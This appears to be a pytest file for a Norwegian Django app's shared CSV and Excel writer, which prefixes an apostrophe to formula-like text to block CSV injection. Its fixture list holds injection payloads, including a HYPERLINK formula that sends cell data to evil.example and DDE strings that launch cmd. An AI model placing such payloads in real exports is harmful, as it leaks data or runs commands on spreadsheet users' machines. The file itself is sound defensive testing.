"""The shared CSV and Excel writer: no file Samtale hands out can carry a formula.

Text a spreadsheet would run (=, +, -, @, tab or carriage return first) gets a
leading apostrophe, as OWASP advises against CSV injection; everything else is
written as given. A structural test keeps every future export on this writer.
"""

import ast
import csv
import io
import re
import zipfile
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path
from xml.etree import ElementTree
from zoneinfo import ZoneInfo

import pytest
from django.urls import reverse
from django.utils import translation
from openpyxl import load_workbook

from samtale.core import spreadsheet
from samtale.core.spreadsheet import csv_bytes, download, neutralise, xlsx_bytes
from samtale.org.imports import people as people_import
from samtale.org.imports import units as units_import
from samtale.org.imports.reader import read_table
from testkit.source import REPOSITORY, product_copy, product_files

DANGEROUS = [
    "=1+1",
    '=HYPERLINK("https://evil.example/?d="&A1;"Klikk her")',
    "+47 12345678",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\u00a0 +1",
    "\n@SUM(A1)",
]
HARMLESS = ["Kari", "Bjørn Sæther Åsheim", "", "a=b", "E-post", "Team 1.–4. trinn", "#N/A"]
NUMBERS_AND_DATES = [-5, -1.5, Decimal("-3.25"), 0, date(2026, 3, 2), datetime(2026, 3, 2, 9, 0)]


def read_csv(content):
    assert content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"))


def read_xlsx(content):
    return [list(row) for row in load_workbook(io.BytesIO(content)).active.iter_rows()]


def texts_as_excel_shows(content) -> list[str]:
    """The workbook's texts as Excel shows them. A control character is written _xHHHH_, and
    text that reads as such an escape gets its "_" escaped (_x005F_); Excel reads both back,
    openpyxl only the second."""
    with zipfile.ZipFile(io.BytesIO(content)) as workbook:
        table = ElementTree.fromstring(workbook.read("xl/sharedStrings.xml"))  # noqa: S314 (ours)
    return [
        re.sub(r"_x([0-9A-F]{4})_", lambda match: chr(int(match[1], 16)), "".join(si.itertext()))
        for si in table
    ]


def sheet_xml(content):
    with zipfile.ZipFile(io.BytesIO(content)) as workbook:
        return workbook.read("xl/worksheets/sheet1.xml").decode()


# neutralise ------------------------------------------------------------------


@pytest.mark.parametrize("value", DANGEROUS)
def test_text_a_spreadsheet_would_run_gets_a_leading_apostrophe(value):
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", [*HARMLESS, *NUMBERS_AND_DATES, None, True])
def test_other_values_are_left_as_they_are(value):
    assert neutralise(value) is value


# CSV -------------------------------------------------------------------------


@pytest.mark.parametrize("value", DANGEROUS)
def test_csv_neutralises_every_formula_prefix(value):
    assert read_csv(csv_bytes([["Navn", "Notat"], ["Kari", value]])) == [
        ["Navn", "Notat"],
        ["Kari", "'" + value],
    ]


def test_csv_is_utf8_with_a_byte_order_mark_semicolons_and_crlf():
    content = csv_bytes([["Navn", "Sted"], ["Kari", "Tromsø"]])
    assert content == "\ufeffNavn;Sted\r\nKari;Tromsø\r\n".encode()


def test_csv_writes_harmless_text_numbers_and_dates_unchanged_but_for_the_decimal_comma():
    rows = [HARMLESS, NUMBERS_AND_DATES, [None, "x"]]
    with translation.override("nb"):
        assert read_csv(csv_bytes(rows)) == [
            HARMLESS,
            ["-5", "-1,5", "-3,25", "0", "2026-03-02", "2026-03-02 09:00:00"],
            ["", "x"],
        ]


# Samtale writes numbers as Norwegians do in every language of its pages (config/formats).
@pytest.mark.parametrize("language", ["nb", "nn", "en"])
def test_csv_writes_fractions_with_the_languages_decimal_separator(language):
    """Norwegian Excel reads 3.43 as text and 3.10 as a date; 3,43 as the number."""
    with translation.override(language):
        [row] = read_csv(csv_bytes([[3.43, 1e-05, Decimal("2.50").normalize(), 1234567.5, 7]]))
    assert row == ["3,43", "0,00001", "2,5", "1234567,5", "7"]


def test_csv_and_excel_show_a_time_as_it_was_in_norway():
    moment = datetime(2026, 3, 2, 8, 0, tzinfo=ZoneInfo("UTC"))
    assert read_csv(csv_bytes([[moment]])) == [["2026-03-02 09:00:00"]]
    [[cell]] = read_xlsx(xlsx_bytes([[moment]], sheet_title="Tider"))
    assert cell.value == datetime(2026, 3, 2, 9, 0)


# Excel -----------------------------------------------------------------------


@pytest.mark.parametrize("value", [*DANGEROUS, "=", "=A1"])
def test_excel_neutralises_every_formula_prefix_and_stores_text_not_a_formula(value):
    content = xlsx_bytes([["Navn", "Notat"], ["Kari", value]], sheet_title="Ansatte")
    [header, (name, note)] = read_xlsx(content)
    # Shown as written, no apostrophe: a workbook says the cell is text.
    assert texts_as_excel_shows(content)[-1] == value
    assert note.data_type == "s" and note.quotePrefix
    assert "<f>" not in sheet_xml(content)


def test_excel_keeps_numbers_dates_and_harmless_text_as_they_are():
    content = xlsx_bytes([HARMLESS, NUMBERS_AND_DATES], sheet_title="Ansatte")
    text, numbers = read_xlsx(content)
    # An empty text cell reads back as an empty cell.
    assert [c.value or "" for c in text] == HARMLESS
    assert all(c.data_type == "s" for c in text if c.value)  # "#N/A" too: text, not an error
    assert [c.value for c in numbers[:4]] == [-5, -1.5, -3.25, 0]
    assert all(c.data_type == "n" for c in numbers[:4])
    assert [c.value for c in numbers[4:6]] == [datetime(2026, 3, 2), datetime(2026, 3, 2, 9, 0)]
    assert load_workbook(io.BytesIO(content)).sheetnames == ["Ansatte"]


def test_excel_drops_characters_a_workbook_cannot_hold_before_neutralising():
    [[cell]] = read_xlsx(xlsx_bytes([["\x01\x02=1+1"]], sheet_title="Ark"))
    assert (cell.value, cell.data_type, cell.quotePrefix) == ("=1+1", "s", True)


def test_text_that_looks_like_excels_escape_is_shown_as_written():
    content = xlsx_bytes([["Kode _x0041_ og _x000D_"]], sheet_title="Ark")
    assert texts_as_excel_shows(content) == ["Kode _x0041_ og _x000D_"]


def test_a_sheet_title_is_made_one_excel_accepts():
    content = xlsx_bytes([["x"]], sheet_title="Samtaler 2026/27: [Fjordvik skole og barnehage]")
    title = "Samtaler 2026-27- -Fjordvik skole og barnehage-"[:31]
    assert load_workbook(io.BytesIO(content)).sheetnames == [title]


# Downloads -------------------------------------------------------------------


@pytest.mark.parametrize(
    ("filename", "content_type", "disposition"),
    [
        ("samtaler.csv", "text/csv; charset=utf-8", 'attachment; filename="samtaler.csv"'),
        (
            "Samtaler.XLSX",
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
            'attachment; filename="Samtaler.XLSX"',
        ),
        (
            "tiltak-Tromsø.csv",
            "text/csv; charset=utf-8",
            "attachment; filename*=utf-8''tiltak-Troms%C3%B8.csv",
        ),
    ],
)
def test_a_download_is_an_attachment_with_its_file_type(filename, content_type, disposition):
    response = download(b"data", filename=filename)
    assert response.content == b"data"
    assert response["Content-Type"] == content_type
    assert response["Content-Disposition"] == disposition


@pytest.mark.parametrize(
    ("kind", "columns"), [("units", units_import.COLUMNS), ("people", people_import.COLUMNS)]
)
def test_the_import_template_download_reads_back_through_the_importer(client_for, kind, columns):
    response = client_for("admin").get(reverse("import_template", args=[kind]))
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == f'attachment; filename="samtale-{kind}.csv"'
    table = read_table(filename=f"samtale-{kind}.csv", content=response.content)
    assert table.header == [c.label for c in columns]
    assert response.content == csv_bytes([table.header, *(cells for _n, cells in table.rows)])


# Every file Samtale writes goes through the shared writer ---------------------

CSV_WRITERS = {"writer", "DictWriter"}


def spreadsheet_writers(source: str) -> list[str]:
    """The places in `source` that write CSV or build an openpyxl workbook."""
    found = []
    for node in ast.walk(ast.parse(source)):
        match node:
            case ast.Attribute(value=ast.Name(id="csv"), attr=attr) if attr in CSV_WRITERS:
                found.append(f"line {node.lineno}: csv.{attr}")
            case ast.Attribute(attr="Workbook"):
                found.append(f"line {node.lineno}: .Workbook")
            case ast.ImportFrom(module=module, names=names) if module:
                wanted = CSV_WRITERS if module == "csv" else set()
                if module.split(".")[0] in ("openpyxl", "xlsxwriter"):
                    wanted = {"Workbook"}
                for alias in names:
                    if alias.name in wanted:
                        found.append(f"line {node.lineno}: from {module} import {alias.name}")
            case ast.Call(func=ast.Name(id="Workbook")):
                found.append(f"line {node.lineno}: Workbook(")
    return found


@pytest.mark.parametrize(
    "source",
    [
        "import csv\ncsv.writer(out)",
        "import csv\ncsv.DictWriter(out, ['a'])",
        "from csv import writer",
        "from csv import DictWriter as W",
        "import openpyxl\nopenpyxl.Workbook()",
        "from openpyxl import Workbook",
        "from openpyxl.workbook import Workbook as W",
        "Workbook(write_only=True)",
        "import xlsxwriter\nxlsxwriter.Workbook(out)",
        "from xlsxwriter import Workbook",
    ],
)
def test_the_structural_check_sees_a_writer(source):
    assert spreadsheet_writers(source)


@pytest.mark.parametrize(
    "source",
    ["import csv\ncsv.reader(f)", "from openpyxl import load_workbook\nload_workbook(f)"],
)
def test_the_structural_check_lets_readers_be(source):
    assert spreadsheet_writers(source) == []


def writers_elsewhere(root: Path) -> dict[str, list[str]]:
    """Each module of the product under `root` but the shared writer that writes CSV or
    builds a workbook, and where."""
    modules = product_files(root, leave_out=["tests"])
    shared = root / "samtale" / "core" / "spreadsheet.py"
    assert shared in modules and root / "samtale" / "org" / "imports" / "templates.py" in modules
    assert spreadsheet_writers(shared.read_text())  # the check does see the real writer
    return {
        path.relative_to(root).as_posix(): found
        for path in modules
        if path != shared and (found := spreadsheet_writers(path.read_text()))
    }


def test_no_module_but_the_shared_writer_writes_csv_or_builds_a_workbook():
    assert Path(spreadsheet.__file__) == REPOSITORY / "samtale" / "core" / "spreadsheet.py"
    offenders = writers_elsewhere(REPOSITORY)
    assert offenders == {}, "Write CSV and Excel files with samtale.core.spreadsheet."


def test_a_writer_planted_in_a_copy_of_the_product_is_found(tmp_path):
    """The walk above over a copy of the product with a CSV writer planted in a module."""
    copy = product_copy(tmp_path, ["samtale"])
    assert writers_elsewhere(copy) == {}
    module = copy / "samtale" / "insight" / "views.py"
    lines = len(module.read_text().splitlines())
    with module.open("a") as file:
        file.write("\n\ndef planted(out):\n    csv.writer(out).writerow([1])\n")
    assert writers_elsewhere(copy) == {
        "samtale/insight/views.py": [f"line {lines + 4}: csv.writer"]
    }
